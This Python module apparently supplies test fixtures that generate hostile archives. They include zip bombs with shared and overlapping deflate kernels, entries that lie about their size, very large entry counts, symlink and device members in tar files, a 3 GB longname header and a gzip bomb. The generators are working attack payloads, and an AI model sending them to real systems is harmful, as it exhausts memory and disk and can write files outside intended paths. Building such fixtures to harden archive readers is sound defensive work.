"""Archives that mean harm, made on the spot: small to make, large to open."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

GOOD = b"<x/>"
RAW, GZIP = -15, 31


def zipped(path, members, *, packing=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", packing) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return path


def deflated(size, wbits=RAW, *, block=bytes(1_000_000)):
    """So many zeros, packed, without ever holding them."""
    packer = zlib.compressobj(1, zlib.DEFLATED, wbits)
    return b"".join([*(packer.compress(block) for _ in range(size // len(block))), packer.flush()])


def entry(name, place, packed, size, crc=0, flags=0, method=8):
    sizes = (crc, packed, size, len(name))
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, flags, method, 0, 33, *sizes, 0, 0, 0, 0, 0, place) + name


def head(name, packed, size, crc=0, flags=0, method=8):
    return struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, flags, method, 0, 33, crc, packed, size, len(name), 0) + name


def end(count, size, place):
    return struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, count & 0xFFFF, count & 0xFFFF, size, place & 0xFFFFFFFF, 0)


def one_kernel_many_names(path, *, times=3000, size=9_000_000):
    """The list names the same packed bytes again and again: 27 GB of nine megabytes."""
    kernel = deflated(size)
    body = head(b"0.xml", len(kernel), size) + kernel
    listed = b"".join(entry(b"%05d.xml" % n, 0, len(kernel), size) for n in range(times))
    path.write_bytes(body + listed + end(times, len(listed), len(body)))
    return path


def quoted_kernel(path, *, times=2000, size=9_000_000):
    """Each member's packed bytes quote the head of the next one, and end in the same kernel."""
    kernel = deflated(size)
    heads, rest = [], len(kernel)
    for n in reversed(range(times)):
        heads.append(head(b"%05d.xml" % n, rest, size))
        rest += len(heads[-1]) + 5
    heads.reverse()
    body, listed = io.BytesIO(), []
    for n, one in enumerate(heads):
        listed.append(entry(b"%05d.xml" % n, body.tell(), struct.unpack_from("<L", one, 18)[0], size))
        body.write(one)
        if n < times - 1:
            quoted = len(heads[n + 1])
            body.write(struct.pack("<BHH", 0, quoted, quoted ^ 0xFFFF))  # a stored block that holds the next head
    body.write(kernel)
    content = b"".join(listed)
    path.write_bytes(body.getvalue() + content + end(times, len(content), body.tell()))
    return path


def many_names(path, *, times=300_000):
    listed = entry(b"a.xml", 0, 0, 0, method=0) * times
    body = head(b"a.xml", 0, 0, method=0)
    path.write_bytes(body + listed + end(times, len(listed), len(body)))
    return path


def locked(path):
    """A member that asks for a password."""
    content = bytes(12) + GOOD
    body = head(b"a.xml", len(content), len(GOOD), zlib.crc32(GOOD), flags=1, method=0) + content
    listed = entry(b"a.xml", 0, len(content), len(GOOD), zlib.crc32(GOOD), flags=1, method=0)
    path.write_bytes(body + listed + end(1, len(listed), len(body)))
    return path


def lying_about_its_size(path, *, size=100_000_000):
    """Says that it unpacks to four bytes."""
    kernel = deflated(size)
    body = head(b"a.xml", len(kernel), 4) + kernel
    listed = entry(b"a.xml", 0, len(kernel), 4)
    path.write_bytes(body + listed + end(1, len(listed), len(body)))
    return path


def tarred(path, members):
    """Members as (name, content), or (name, change) where `change` makes the header what it should be."""
    with tarfile.open(path, "w:gz") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            if callable(content):
                content(info)
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
    return path


def link_to(target, kind=tarfile.SYMTYPE):
    def change(info):
        info.type, info.linkname = kind, target

    return change


def device(info):
    info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 5


def large_header(path, *, type_=tarfile.GNUTYPE_LONGNAME, size=3_000_000_000):
    """A name of three gigabytes, which a reader would hold in memory whole."""
    info = tarfile.TarInfo("././@LongLink")
    info.type, info.size = type_, size
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(info.tobuf())
        for _ in range(30):
            file.write(bytes(1_000_000))
    return path


def empty_parts(path, *, times=300_000):
    """A gzip file of gzip files that hold nothing."""
    path.write_bytes(gzip.compress(b"") * times)
    return path


def endless_folders(path, *, times=60_000):
    info = tarfile.TarInfo("a/")
    info.type = tarfile.DIRTYPE
    block = info.tobuf() * 1000
    with gzip.open(path, "wb", compresslevel=1) as file:
        for _ in range(times // 1000):
            file.write(block)
    return path


def gzip_bomb(path, *, size=200_000_000):
    path.write_bytes(deflated(size, GZIP))
    return path
